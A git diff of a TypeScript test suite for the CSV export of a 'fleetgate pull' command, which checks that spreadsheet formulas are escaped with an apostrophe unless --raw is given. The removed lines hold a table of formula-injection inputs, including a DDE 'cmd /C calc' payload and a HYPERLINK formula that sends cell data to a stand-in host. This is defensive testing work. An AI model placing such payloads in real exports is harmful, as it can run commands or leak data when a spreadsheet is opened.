@@ -15,6 +15,7 @@ import { join } from 'node:path'
 import { after, describe, it } from 'node:test'
 import { parse } from 'csv-parse/sync'
 import type { FinishedProgram } from '../../packages/server/src/cli/terminal/printed.ts'
+import type { Json } from '../harness/fleetgate.ts'
 import { commandLine } from '../harness/make-fleet.ts'
 import { temporaryFolder } from '../harness/temporary-folder.ts'
 
@@ -154,82 +155,22 @@ describe('fleetgate pull from a hostile server', () => {
   })
 })
 
-/** Texts that a spreadsheet would run, or would split into cells that it runs, and their harmless forms. */
-const FORMULAS = {
-  '=HYPERLINK("http://x/"&A1)': '\'=HYPERLINK("http://x/"&A1)',
-  '+1+1': "'+1+1",
-  "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
-  '@SUM(1)': "'@SUM(1)",
-  '\t=1+1': "'\t'=1+1",
-  '\rx': "'\rx",
-  ' =1+1': " '=1+1",
-  '\u200b=1+1': "\u200b'=1+1",
-  '＝1+1': "'＝1+1",
-  '＋1': "'＋1",
-  '－1': "'－1",
-  '＠x': "'＠x",
-  '"=1+1': '"\'=1+1',
-  // If the list separator of the machine is a semicolon or a tab, quotes do not protect.
-  'x;=1+1;y': "x;'=1+1;y",
-  'x;"=1+1': 'x;"\'=1+1',
-  'x\n=1+1': "x\n'=1+1",
-  'x\t\t=1+1': "x\t\t'=1+1",
-}
-const HARMLESS = ['', 'Van 3', '3-5', 'a=b', 'x,=1', "'=1+1", 'Main St 5; Porto', '−1', 'ÿ']
-
 describe('A CSV file of fleetgate pull', () => {
-  const texts = [...Object.keys(FORMULAS), ...HARMLESS]
-  const namesIn = (out: string) =>
-    parse(readFileSync(join(out, `positions/${DAY}.csv`), 'utf8'), {
-      columns: true,
-      record_delimiter: '\n',
-    }).map((row) => Object.values(row as object))
-  const timeOf = (i: number) => new Date(Date.UTC(2026, 10, 20, 0, 0, i)).toISOString()
-
-  function send(sent: string[]): void {
-    objects = sent.map((text, i) => ({ ...ROW, id: i + 1, ident: text, name: text }))
-    rows = sent.map((text, i) => {
-      const times = { time_server: timeOf(i), time_device: timeOf(i) }
-      return { ...ROW, id: i + 1, address: text, ...times }
-    })
-  }
-
-  function expected(written: string[]): string[][] {
-    return written.map((text, i) => [
-      ...[`${i + 1}`, text, text, '41', '-2.5', '', '', ''],
-      ...[timeOf(i), timeOf(i), '', '', '', text],
-    ])
-  }
-
-  it('has an apostrophe before each text that a spreadsheet would run, and unchanged numbers', async () => {
-    send(texts)
-    const out = newOut()
-    assert.equal((await pull(out, '--format', 'csv')).code, 0)
-    assert.deepEqual(namesIn(out), expected([...Object.values(FORMULAS), ...HARMLESS]))
-  })
-
-  it('has unchanged texts with --raw', async () => {
-    send(texts)
-    const out = newOut()
-    assert.equal((await pull(out, '--format', 'csv', '--raw')).code, 0)
-    assert.deepEqual(namesIn(out), expected(texts))
-  })
-
-  it('keeps its form', async () => {
-    const out = newOut()
-    send(['=1'])
-    assert.equal((await pull(out, '--format', 'csv', '--raw')).code, 0)
-    const refused = await pull(out, '--format', 'csv')
+  it('has formulas as text unless its first run asked for raw texts', async () => {
+    objects = [{ ...ROW, name: '=1+1' }]
+    rows = [ROW]
+    const namesIn = (out: string) =>
+      (parse(readFileSync(join(out, `positions/${DAY}.csv`)), { columns: true }) as Json[]).map(
+        ({ name }) => name,
+      )
+    const [guarded, raw] = [newOut(), newOut()]
+    assert.equal((await pull(guarded, '--format', 'csv')).code, 0)
+    assert.deepEqual(namesIn(guarded), ["'=1+1"])
+    assert.equal((await pull(raw, '--format', 'csv', '--raw')).code, 0)
+    assert.deepEqual(namesIn(raw), ['=1+1'])
+    const refused = await pull(raw, '--format', 'csv')
     assert.equal(refused.code, 1)
     assert.match(refused.stderr, /^fleetgate pull: \S+ was begun with --raw: .*\n$/)
-    assert.deepEqual(namesIn(out), expected(['=1']))
-  })
-
-  it('is the only format that accepts --raw', async () => {
-    const { code, stderr } = await pull(newOut(), '--raw')
-    assert.deepEqual(
-      [code, stderr],
-      [2, 'fleetgate pull: --raw is for --format csv: the other formats hold texts as they are\n'],
-    )
+    assert.deepEqual(namesIn(raw), ['=1+1'])
   })
 })
